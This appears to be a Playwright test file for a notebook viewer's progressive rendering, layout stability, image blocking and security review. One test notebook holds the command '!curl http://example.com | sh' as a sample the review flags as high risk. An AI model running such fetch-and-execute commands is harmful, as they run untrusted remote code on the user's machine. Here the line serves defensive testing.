// A long notebook in the studio, in Debian's Chromium against a real server: the cells that meet the first screen
// are drawn at once and the rest later, in order; in-notebook links and shared addresses with a #fragment still
// land on their heading even when it was not drawn yet; the contents list every heading once all cells are in;
// output frames exist only near the viewport. The first screen's images are drawn as they will stay.
import { after, before, test } from "node:test";
import { createServer, type Server } from "node:http";
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { launchBrowser, type Browser } from "./browser.ts";
import { freePort, signInThroughPage, startBrowserStudio, type BrowserStudio } from "./running-studio.ts";
import { renderMarkdown } from "../../src/render/markdown.ts";
import { png } from "../png-fixture.ts";

const PASSWORD = "progressive test password";
const SECTIONS = 400;
let studio: BrowserStudio;
let browser: Browser;
let notebookUrl = "";
let upload: (name: string, notebook: unknown) => Promise<string>;
// A web server the studio may fetch images from (an explicit loopback allowance, as for development).
let images: Server;
let chartUrl = "";
const imageRequests: { cookie?: string; userAgent?: string }[] = [];

const markdownCell = (id: string, source: string) => ({ cell_type: "markdown", id, metadata: {}, source });
/** A code cell with one display_data output of `data`, or none. */
const codeCell = (id: string, source: string, count: number, data?: Record<string, string>) => ({
  cell_type: "code",
  id,
  metadata: {},
  source,
  execution_count: count,
  outputs: data ? [{ output_type: "display_data", metadata: {}, data }] : [],
});
const notebookOf = (...cells: object[]) => ({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });

function longNotebook() {
  const paragraph =
    "A paragraph long enough to take a few lines of the page, as the prose between headings of a long notebook does. ".repeat(
      4,
    );
  const cells = [
    {
      cell_type: "markdown",
      id: "top",
      metadata: {},
      source: `# A long notebook\n\n[Jump to the last section](#Section-${SECTIONS})`,
    },
  ];
  for (let i = 1; i <= SECTIONS; i++)
    cells.push({ cell_type: "markdown", id: `s${i}`, metadata: {}, source: `## Section ${i}\n\n${paragraph}` });
  return { nbformat: 4, nbformat_minor: 5, metadata: {}, cells };
}

before(async () => {
  const imagesPort = await freePort();
  images = createServer((req, res) => {
    imageRequests.push({ cookie: req.headers.cookie, userAgent: req.headers["user-agent"] });
    res.writeHead(200, { "content-type": "image/png" }).end(png(40, 20));
  });
  await new Promise<void>((resolve) => images.listen(imagesPort, "127.0.0.1", resolve));
  chartUrl = `http://127.0.0.1:${imagesPort}/chart.png`;
  studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }], {
    "image-allow-loopback": `127.0.0.1:${imagesPort}`,
  });
  const signIn = await fetch(`${studio.app}/api/session`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ username: "ada", password: PASSWORD }),
  });
  const auth = {
    cookie: (signIn.headers.get("set-cookie") ?? "").split(";")[0] as string,
    "x-csrf-token": ((await signIn.json()) as { csrfToken: string }).csrfToken,
  };
  const created = await fetch(`${studio.app}/api/workspaces`, {
    method: "POST",
    headers: { ...auth, "content-type": "application/json" },
    body: JSON.stringify({ name: "Long" }),
  });
  const workspace = ((await created.json()) as { id: string }).id;
  upload = async (name, notebook) => {
    const form = new FormData();
    form.append("acknowledgment", "trusted-source-v1");
    form.append("file", new Blob([JSON.stringify(notebook)]), name);
    const up = await fetch(`${studio.app}/api/workspaces/${workspace}/files`, {
      method: "POST",
      headers: auth,
      body: form,
    });
    assert.equal(up.status, 201);
    return `${studio.app}/w/${workspace}/f/${name}`;
  };
  notebookUrl = await upload("long.ipynb", longNotebook());

  browser = await launchBrowser();
  const page = await browser.context.newPage();
  await signInThroughPage(page, studio.app, "ada", PASSWORD);
  await page.close();
});

after(async () => {
  await browser?.close();
  await studio?.close();
  images?.close();
});

interface FirstScreen {
  cells: number;
  lastTop: number;
  previousTop: number;
  viewport: number;
}

/**
 * A page that records what is in the DOM at the moment the view marks its first screen, and that holds every idle
 * callback until the test releases them, so that "not drawn yet" lasts as long as the test needs.
 */
async function instrumentedPage(): Promise<Page> {
  const page = await browser.context.newPage();
  await page.addInitScript(() => {
    const w = window as unknown as { __firstScreen?: FirstScreen; __held: IdleRequestCallback[]; __release(): void };
    w.__held = [];
    window.requestIdleCallback = (callback) => w.__held.push(callback);
    window.cancelIdleCallback = () => {};
    w.__release = () => {
      const deadline = { didTimeout: false, timeRemaining: () => 50 };
      while (w.__held.length) w.__held.shift()!(deadline);
    };
    const mark = performance.mark.bind(performance);
    performance.mark = (name, options) => {
      if (name === "vitrine:first-screen") {
        const cells = Array.from(document.querySelectorAll(".vt-cells > .vt-cell"));
        w.__firstScreen = {
          cells: cells.length,
          lastTop: cells.at(-1)!.getBoundingClientRect().top,
          previousTop: cells.at(-2)?.getBoundingClientRect().top ?? 0,
          viewport: window.innerHeight,
        };
      }
      return mark(name, options);
    };
  });
  return page;
}

const cellCount = (page: Page) => page.locator(".vt-cells > .vt-cell").count();
const marked = (page: Page, name: string) => page.evaluate((n) => performance.getEntriesByName(n).length, name);

test("the first screen is drawn at once, the rest while the page is idle, in order, then the contents", async () => {
  const page = await instrumentedPage();
  await page.goto(notebookUrl);
  await page.getByRole("heading", { name: "A long notebook" }).waitFor();
  const first = await page.evaluate(() => (window as unknown as { __firstScreen: FirstScreen }).__firstScreen);
  // Every cell that meets the viewport, and only one more: the one whose top showed the screen was full.
  assert.ok(first.cells > 1 && first.cells < 40, `first screen drew ${first.cells} cells`);
  assert.ok(first.lastTop >= first.viewport, "the last cell drawn starts below the first screen");
  assert.ok(first.previousTop < first.viewport, "the cell before it starts on the first screen");
  assert.equal(await cellCount(page), first.cells, "nothing more is drawn until the page is idle");
  assert.equal(await marked(page, "vitrine:all-cells"), 0);
  assert.equal(await page.locator(".vt-toc").count(), 0, "the page's one contents is the side panel");
  assert.equal(
    await page.locator("article.vt-notebook").getAttribute("aria-busy"),
    "true",
    "assistive technology hears the notebook is still loading",
  );

  await page.waitForFunction(() => {
    (window as unknown as { __release(): void }).__release();
    return performance.getEntriesByName("vitrine:all-cells").length === 1;
  });
  const ids = await page.locator(".vt-cells > .vt-cell").evaluateAll((cells) => cells.map((c) => c.id));
  assert.deepEqual(
    ids,
    Array.from({ length: SECTIONS + 1 }, (_, i) => `vt-cell-${i + 1}`),
  );
  assert.equal(await page.locator("article.vt-notebook").getAttribute("aria-busy"), "false");
  // The contents are the side panel's, read from the notebook (reading-comfort.test.ts follows them further).
  const toggle = page.getByRole("button", { name: "Contents", exact: true });
  await page.waitForFunction(() => {
    (window as unknown as { __release(): void }).__release();
    return !document.querySelector<HTMLButtonElement>(".vt-reading-tools button[aria-controls]")?.disabled;
  });
  await toggle.click();
  const contents = page.getByRole("navigation", { name: "Table of contents" });
  assert.equal(await contents.locator("a").count(), SECTIONS + 1, "one entry per heading");
  assert.equal(await page.locator(".vt-toc").count(), 0);
  await page.close();
});

test("a link to a heading not drawn yet draws the rest and lands on it", async () => {
  const page = await instrumentedPage();
  await page.goto(notebookUrl);
  await page.getByRole("link", { name: "Jump to the last section" }).click();
  assert.equal(await cellCount(page), SECTIONS + 1);
  assert.equal(await marked(page, "vitrine:all-cells"), 1);
  await assertInViewport(page, `Section ${SECTIONS}`);
  assert.equal(new URL(page.url()).hash, `#user-content-Section-${SECTIONS}`);
  await page.close();
});

test("an address with a #fragment lands on its heading once the notebook is drawn", async () => {
  const page = await browser.context.newPage();
  await page.goto(`${notebookUrl}#user-content-Section-300`);
  await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
  await assertInViewport(page, "Section 300");
  await page.close();
});

async function assertInViewport(page: Page, heading: string): Promise<void> {
  const box = await page.getByRole("heading", { name: heading, exact: true }).boundingBox();
  const height = await page.evaluate(() => window.innerHeight);
  assert.ok(box && box.y >= 0 && box.y < height, `${heading} is on screen (top ${box?.y})`);
}

test("a notebook's address fetches its head, details and session once each while the app's script loads, and its bytes once after", async () => {
  const page = await browser.context.newPage();
  const apiReads: string[] = [];
  const warnings: string[] = [];
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.pathname.startsWith("/api/")) apiReads.push(`${request.method()} ${url.pathname}`);
  });
  page.on("console", (message) => {
    if (message.type() === "warning" || message.type() === "error") warnings.push(message.text());
  });
  await page.goto(notebookUrl);
  await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
  // The review comes after the bytes, by design; leave it out and look at what the page asked for first.
  const first = apiReads.filter((r) => !r.includes("/review/")).sort();
  const workspace = new URL(notebookUrl).pathname.split("/")[2];
  assert.deepEqual(
    first,
    [
      `GET /api/config`,
      `GET /api/session`,
      `GET /api/workspaces/${workspace}/notebook-head/long.ipynb`,
      `GET /api/workspaces/${workspace}/files/long.ipynb`,
      `GET /api/workspaces/${workspace}/raw/long.ipynb`,
    ].sort(),
  );
  // Each came from the page's preloads (started before the script ran), and each preload was used; the bytes came
  // from the page itself once the first screen was drawn.
  const initiators = await page.evaluate(() =>
    (performance.getEntriesByType("resource") as PerformanceResourceTiming[])
      .filter((e) => new URL(e.name).pathname.startsWith("/api/") && !e.name.includes("/review/"))
      .map((e) => `${new URL(e.name).pathname.split("/")[4] ?? new URL(e.name).pathname} ${e.initiatorType}`)
      .sort(),
  );
  assert.deepEqual(initiators, [
    "/api/config link",
    "/api/session link",
    "files link",
    "notebook-head link",
    "raw fetch",
  ]);
  await page.waitForTimeout(3500); // Chromium warns about an unused preload some seconds after load
  assert.deepEqual(
    warnings.filter((w) => /preload/i.test(w)),
    [],
  );
  await page.close();
});

const FRAMED = 60;

/** Code cells far apart (each source is tall), each with an HTML output, which the studio draws in a frame. */
function framedNotebook() {
  const source = Array.from({ length: 40 }, (_, line) => `value_${line} = ${line}`).join("\n");
  const cells = Array.from({ length: FRAMED }, (_, i) => ({
    cell_type: "code",
    id: `c${i + 1}`,
    metadata: {},
    execution_count: i + 1,
    source,
    outputs: [
      {
        output_type: "display_data",
        metadata: {},
        data: { "text/html": `<p>Output ${i + 1}</p>`, "text/plain": `Output ${i + 1}` },
      },
    ],
  }));
  return { nbformat: 4, nbformat_minor: 5, metadata: {}, cells };
}

test("output frames are made only near the viewport, removed far from it with their place kept, and made again on return", async () => {
  const url = await upload("frames.ipynb", framedNotebook());
  const page = await browser.context.newPage();
  await page.goto(url);
  await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
  assert.equal(await page.locator(".vt-frame-slot").count(), FRAMED);
  const framed = () =>
    page.evaluate(() =>
      Array.from(document.querySelectorAll(".vt-frame-slot"), (slot, i) =>
        slot.querySelector("iframe") ? i : -1,
      ).filter((i) => i >= 0),
    );
  const firstOutput = page.frameLocator(".vt-frame-slot >> nth=0 >> iframe").getByText("Output 1", { exact: true });
  await firstOutput.waitFor();
  const atTop = await framed();
  assert.ok(
    atTop.includes(0) && !atTop.includes(FRAMED - 1) && atTop.length < FRAMED / 4,
    `frames at the top: ${atTop.join(", ")}`,
  );
  const firstPlace = await page
    .locator(".vt-frame-slot")
    .first()
    .evaluate((slot) => slot.getBoundingClientRect().height);

  await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
  await page.waitForFunction((last) => {
    const slots = document.querySelectorAll(".vt-frame-slot");
    return slots[last]?.querySelector("iframe") !== null && slots[0]?.querySelector("iframe") === null;
  }, FRAMED - 1);
  const atBottom = await framed();
  assert.ok(atBottom.length < FRAMED / 4, `frames at the bottom: ${atBottom.join(", ")}`);
  await page
    .frameLocator(`.vt-frame-slot >> nth=${FRAMED - 1} >> iframe`)
    .getByText(`Output ${FRAMED}`, { exact: true })
    .waitFor();
  // The removed frame's place keeps its height, so nothing above the reader moves.
  assert.equal(
    await page
      .locator(".vt-frame-slot")
      .first()
      .evaluate((slot) => slot.getBoundingClientRect().height),
    firstPlace,
  );

  await page.evaluate(() => window.scrollTo(0, 0));
  await firstOutput.waitFor();
  assert.ok(!(await framed()).includes(FRAMED - 1), "the frames at the bottom are gone again");
  await page.close();
});

/** Holds the page's requests that match `pattern` until release() is called; `asked` settles at the first. */
async function holdRequests(page: Page, pattern: string): Promise<{ release(): void; asked: Promise<void> }> {
  let release!: () => void;
  const gate = new Promise<void>((resolve) => (release = resolve));
  let asked!: () => void;
  const seen = new Promise<void>((resolve) => (asked = resolve));
  await page.route(pattern, async (route) => {
    asked();
    await gate;
    await route.continue();
  });
  return { release, asked: seen };
}

test("the file's details, when they come after the first screen, fill the lines kept for them: nothing below moves", async () => {
  for (const width of [1280, 390, 360]) {
    const page = await browser.context.newPage();
    await page.setViewportSize({ width, height: 844 });
    const details = await holdRequests(page, "**/api/workspaces/*/files/long.ipynb");
    await page.goto(notebookUrl);
    await page.getByRole("heading", { name: "A long notebook" }).waitFor();
    assert.equal(await page.getByText("Version …").count(), 1, "drawn before the details");
    const before = await page.locator(".vt-cells").boundingBox();
    details.release();
    await page.getByText("Version 1 of 1", { exact: false }).waitFor();
    const after = await page.locator(".vt-cells").boundingBox();
    assert.ok(before && after);
    assert.equal(after.y, before.y, `at ${width} px`);
    await page.close();
  }
});

/** Holds the page's requests for the notebook's bytes until release() is called. */
const holdBytes = (page: Page) => holdRequests(page, "**/api/workspaces/*/raw/**");

test("the first screen comes from the notebook's head while its bytes are still on their way", async () => {
  const page = await browser.context.newPage();
  const bytes = await holdBytes(page);
  await page.goto(notebookUrl);
  await bytes.asked;
  await page.getByRole("heading", { name: "A long notebook" }).waitFor();
  assert.equal(await marked(page, "vitrine:first-screen"), 1);
  // The file's details come with the first screen, so their box never pushes the notebook down afterwards.
  assert.equal(await page.getByText("Version 1 of 1", { exact: false }).count(), 1);
  const drawn = await cellCount(page);
  assert.ok(drawn > 1 && drawn < 40, `the head drew ${drawn} cells`);
  await page.getByText(`${SECTIONS + 1} cells`).waitFor();
  assert.equal(await marked(page, "vitrine:all-cells"), 0, "the rest waits for the bytes");
  bytes.release();
  await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
  const ids = await page.locator(".vt-cells > .vt-cell").evaluateAll((cells) => cells.map((c) => c.id));
  assert.deepEqual(
    ids,
    Array.from({ length: SECTIONS + 1 }, (_, i) => `vt-cell-${i + 1}`),
    "each cell once, in order",
  );
  assert.equal(await marked(page, "vitrine:first-screen"), 1);
  await page.close();
});

test("cells drawn from a head that does not match the bytes are drawn again from the bytes", async () => {
  const page = await browser.context.newPage();
  await page.route("**/api/workspaces/*/notebook-head/**", async (route) => {
    const response = await route.fetch();
    // The head of another notebook, as a server would send it: its first cell, and that cell's HTML.
    const head = (await response.json()) as { notebook: { cells: { source: string }[] }; markdown: (string | null)[] };
    head.notebook.cells[0]!.source = "# Not this notebook";
    head.markdown[0] = renderMarkdown("# Not this notebook");
    await route.fulfill({ response, json: head });
  });
  const bytes = await holdBytes(page);
  await page.goto(notebookUrl);
  await page.getByRole("heading", { name: "Not this notebook" }).waitFor();
  bytes.release();
  await page.getByRole("heading", { name: "A long notebook" }).waitFor();
  await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
  assert.equal(await page.getByRole("heading", { name: "Not this notebook" }).count(), 0);
  assert.equal(await cellCount(page), SECTIONS + 1);
  await page.close();
});

test("an output too large for the head has its place on the first screen, and appears once the bytes are in", async () => {
  const figure = `<div id="figure">${"<span>point</span>".repeat(20_000)}</div><p id="drawn">Large figure drawn</p>`;
  const url = await upload(
    "large-output.ipynb",
    notebookOf(
      markdownCell("intro", "# A large output"),
      codeCell("show", "show(figure)", 1, { "text/html": figure, "text/plain": "<Figure>" }),
      markdownCell("after", "After the figure"),
    ),
  );
  const page = await browser.context.newPage();
  const bytes = await holdBytes(page);
  await page.goto(url);
  await page.getByText("Loading this output…").waitFor();
  assert.equal(await marked(page, "vitrine:first-screen"), 1, "the first screen is drawn from the head");
  assert.equal(await cellCount(page), 3);
  await page.getByText("After the figure").waitFor();
  assert.equal(await page.locator("iframe.vt-frame").count(), 0, "no frame is made for content that is not there yet");
  bytes.release();
  const frame = page.frameLocator("iframe.vt-frame");
  await frame.locator("#drawn").waitFor({ timeout: 30_000 });
  assert.equal(await page.getByText("Loading this output…").count(), 0);
  assert.equal(await frame.locator("#figure span").count(), 20_000, "the whole output, from the bytes");
  assert.equal(await cellCount(page), 3);
  await page.close();
});

test("a head without the server's markdown HTML is drawn by the page's own renderer, still before the bytes", async () => {
  const page = await browser.context.newPage();
  await page.route("**/api/workspaces/*/notebook-head/**", async (route) => {
    const response = await route.fetch();
    const head = (await response.json()) as { markdown?: unknown };
    delete head.markdown;
    await route.fulfill({ response, json: head });
  });
  const bytes = await holdBytes(page);
  await page.goto(notebookUrl);
  await page.getByRole("heading", { name: "A long notebook" }).waitFor();
  assert.equal(await marked(page, "vitrine:first-screen"), 1);
  assert.equal(await marked(page, "vitrine:all-cells"), 0, "drawn from the head");
  await bytes.asked;
  bytes.release();
  await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
  assert.equal(await cellCount(page), SECTIONS + 1);
  await page.close();
});

test("markdown and LaTeX outputs are typeset in their frames, with the renderer the page starts after its first screen", async () => {
  const url = await upload(
    "typeset-outputs.ipynb",
    notebookOf(
      markdownCell("intro", "# Typeset outputs"),
      codeCell("md", "Markdown('**bold** text')", 1, { "text/markdown": "**bold** text", "text/plain": "<Markdown>" }),
      codeCell("tex", "Latex('$x^2$')", 2, { "text/latex": "$x^2$", "text/plain": "<Latex>" }),
    ),
  );
  const page = await browser.context.newPage();
  await page.goto(url);
  const frames = page.frameLocator("iframe.vt-frame");
  await frames.first().locator("strong", { hasText: "bold" }).waitFor({ timeout: 30_000 });
  await page.frameLocator("iframe.vt-frame").nth(1).locator(".katex").first().waitFor({ timeout: 30_000 });
  await page.close();
});

test("the review's answer, findings or none, takes the line kept for it: the notebook below does not move", async () => {
  const risky = await upload(
    "risky.ipynb",
    notebookOf(markdownCell("t", "# Risky"), codeCell("c", "!curl http://example.com | sh", 1)),
  );
  // At phone width as well: an answer longer than the line kept for it would wrap there and push the notebook down.
  for (const width of [1280, 390])
    for (const [url, answer] of [
      [notebookUrl, "Review: nothing needs a closer look"],
      [risky, "Review: 1 high"],
    ] as const) {
      const page = await browser.context.newPage();
      await page.setViewportSize({ width, height: 844 });
      const review = await holdRequests(page, "**/api/workspaces/*/review/**");
      await page.goto(url);
      await page.getByText("Reviewing this file…").waitFor();
      const before = await page.locator(".vt-cells").boundingBox();
      review.release();
      await page.getByText(answer).waitFor();
      const after = await page.locator(".vt-cells").boundingBox();
      assert.ok(before && after);
      assert.equal(after.y, before.y, `${url} at ${width} px`);
      await page.close();
    }
});

/**
 * Images of the first screen: two the server does not show (a path beside the notebook, an address on a private
 * network), the first twice, then one it shows through its proxy, last, so that its height when it loads moves
 * nothing below it.
 */
function imagesNotebook() {
  return notebookOf(
    markdownCell("a", "![a diagram](./diagram.png)"),
    markdownCell("b", "<img src='http://10.0.0.1/internal.png'>"),
    markdownCell("c", "<div><img src='./diagram.png'></div>"),
    markdownCell("d", "The text below the images."),
    markdownCell("e", `![chart](${chartUrl})`),
  );
}

/**
 * Records whether an image ever entered the page without its verdict, and the page's layout shifts. With `patient`,
 * the page's wait for its first reads before the first render (200 ms, FIRST_RENDER_WAIT_MS in page-start.ts) is
 * 5 s: what is tested is what the first screen draws when the verdicts are in, which a loaded machine may take
 * longer than 200 ms to answer.
 */
async function imageWatchingPage(width: number, patient = false): Promise<Page> {
  const page = await browser.context.newPage();
  await page.setViewportSize({ width, height: 844 });
  if (patient)
    await page.addInitScript(() => {
      const setTimeoutOf = window.setTimeout.bind(window);
      window.setTimeout = ((handler: TimerHandler, timeout?: number, ...rest: unknown[]) =>
        setTimeoutOf(handler, timeout === 200 ? 5000 : timeout, ...rest)) as typeof window.setTimeout;
    });
  await page.addInitScript(() => {
    const w = window as unknown as { __pendingSeen: number; __shifts: number[] };
    w.__pendingSeen = 0;
    w.__shifts = [];
    new MutationObserver(() => {
      w.__pendingSeen += document.querySelectorAll("img[data-vt-src]").length;
    }).observe(document, { childList: true, subtree: true });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) w.__shifts.push((entry as PerformanceEntry & { value: number }).value);
    }).observe({ type: "layout-shift", buffered: true });
  });
  return page;
}

test("the first screen's images are drawn as they will stay, with the server's verdicts asked for before it is drawn", async () => {
  const url = await upload("images.ipynb", imagesNotebook());
  for (const width of [1280, 390]) {
    const page = await imageWatchingPage(width, true);
    const checks: string[] = [];
    page.on("request", (request) => {
      if (request.url().endsWith("/api/url-check")) checks.push(request.postData() ?? "");
    });
    await page.goto(url);
    await page.getByText("The text below the images.").waitFor();
    const boxes = page.locator(".vt-image-blocked");
    await boxes.nth(2).waitFor();
    assert.match((await boxes.nth(0).textContent()) ?? "", /beside the notebook.*\.\/diagram\.png/s);
    assert.match((await boxes.nth(1).textContent()) ?? "", /private or special network.*10\.0\.0\.1/s);
    // The allowed one comes from the content origin's proxy, which fetched it without the reader's cookies.
    await page.waitForFunction(
      () => (document.querySelector('img[alt="chart"]') as HTMLImageElement | null)?.naturalWidth === 40,
    );
    const chart = await page.locator('img[alt="chart"]').getAttribute("src");
    assert.equal(new URL(chart ?? "").origin, studio.content);
    await page.waitForTimeout(500);
    const seen = await page.evaluate(() => {
      const w = window as unknown as { __pendingSeen: number; __shifts: number[] };
      return { pending: w.__pendingSeen, shifts: w.__shifts };
    });
    assert.equal(seen.pending, 0, `at ${width} px an image was in the page before its verdict`);
    assert.deepEqual(seen.shifts, [], `at ${width} px`);
    // One check, for the three distinct sources of the head, and none after drawing.
    assert.equal(checks.length, 1, checks.join("\n"));
    assert.deepEqual(
      (JSON.parse(checks[0]!) as { checks: { url: string }[] }).checks.map((c) => c.url),
      ["./diagram.png", "http://10.0.0.1/internal.png", chartUrl],
    );
    await page.close();
  }
  // Only the proxy ever asked the image's server, never the browser itself, and never with a cookie.
  assert.ok(imageRequests.length > 0);
  for (const request of imageRequests) {
    assert.equal(request.cookie, undefined);
    assert.doesNotMatch(request.userAgent ?? "", /Chrome/);
  }
});
test("when the image check answers after the first screen, the images are drawn pending and then shown as the server says", async () => {
  const url = await upload("images-slow.ipynb", imagesNotebook());
  const page = await imageWatchingPage(1280);
  const checks = await holdRequests(page, "**/api/url-check");
  await page.goto(url);
  await page.getByText("The text below the images.").waitFor();
  assert.equal(await page.locator("img[data-vt-src]").count(), 4);
  assert.equal(await page.locator(".vt-image-blocked").count(), 0);
  checks.release();
  await page.locator(".vt-image-blocked").nth(2).waitFor();
  assert.equal(await page.locator("img[data-vt-src]").count(), 0);
  await page.close();
});
